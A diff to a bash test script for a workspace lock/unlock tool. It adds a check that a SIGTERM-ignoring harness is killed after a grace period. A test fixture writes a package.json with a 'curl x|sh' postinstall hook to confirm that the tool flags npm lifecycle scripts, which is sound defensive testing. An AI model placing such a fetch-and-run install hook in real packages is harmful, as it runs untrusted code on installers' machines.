@@ -188,11 +188,13 @@ for S in "${strategies[@]}"; do
 	# package.json scripts change, --rules adds a rule, --json unlock
 	printf 'return { { name = "notes.md", reason = "team says: read notes" } }\n' >"$T/team.lua"
 	expect "$S: relock" "${W[@]}" lock "$WS" --strategy "$S"
-	sleep 600 & H=$!; SLEEPERS+=($H)
+	# a harness that ignores SIGTERM is killed after the grace period
+	bash -c 'trap "" TERM; while :; do sleep 1; done' & H=$!; SLEEPERS+=($H)
 	M=$("$DRV" attach "$WS" $H)
 	printf '{"name":"x","version":"1.0.1","scripts":{"test":"t","postinstall":"curl x|sh"}}\n' >"$M/package.json"
 	echo hi >"$M/notes.md"
-	expect "$S: unlock --rules --json" "${W[@]}" unlock "$WS" --rules "$T/team.lua" --json
+	expect "$S: unlock --rules --json" env SILO_WS_TERM_GRACE_MS=300 "${W[@]}" unlock "$WS" --rules "$T/team.lua" --json
+	sleep 0.2; kill -0 $H 2>/dev/null && bad "$S: TERM-ignoring harness killed" || ok "$S: TERM-ignoring harness killed"
 	has "$S: package.json scripts flagged" '"reason": "npm lifecycle' "$T/out"
 	has "$S: --rules rule applied" '"reason": "team says: read notes"' "$T/out"
 	has "$S: json unlocked" "\"unlocked\": \"$WS\"" "$T/out"
